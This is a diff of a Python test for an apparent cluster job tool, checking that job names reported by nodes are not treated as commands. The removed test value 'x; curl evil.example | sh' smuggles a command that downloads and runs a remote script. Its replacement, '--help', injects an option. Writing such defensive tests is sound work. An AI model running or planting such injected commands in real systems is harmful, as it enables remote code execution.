@@ -302,7 +302,7 @@ def test_the_plan_of_a_job_is_not_made_of_what_a_host_says_of_itself(nodes):
 def test_names_of_jobs_that_come_from_a_node_are_names(nodes):
     """Messages tell people to run commands that contain the names of jobs."""
     job = {
-        "name": "x; curl evil.example | sh",
+        "name": "--help",
         "state": "running",
         "over": False,
         "directory": "/efs/jobs/x",
@@ -313,7 +313,7 @@ def test_names_of_jobs_that_come_from_a_node_are_names(nodes):
         "metrics": {},
         "process_count": 0,
         "processes": [],
-        "lines": ["x"],
+        "lines": ["--help running"],
     }
     done = nodes.run([{"deeplearning.cluster.training_job_info": ON_NODES["training_job_info"]}], {"changed": False, "jobs": [job]})
     assert done.returncode != 0
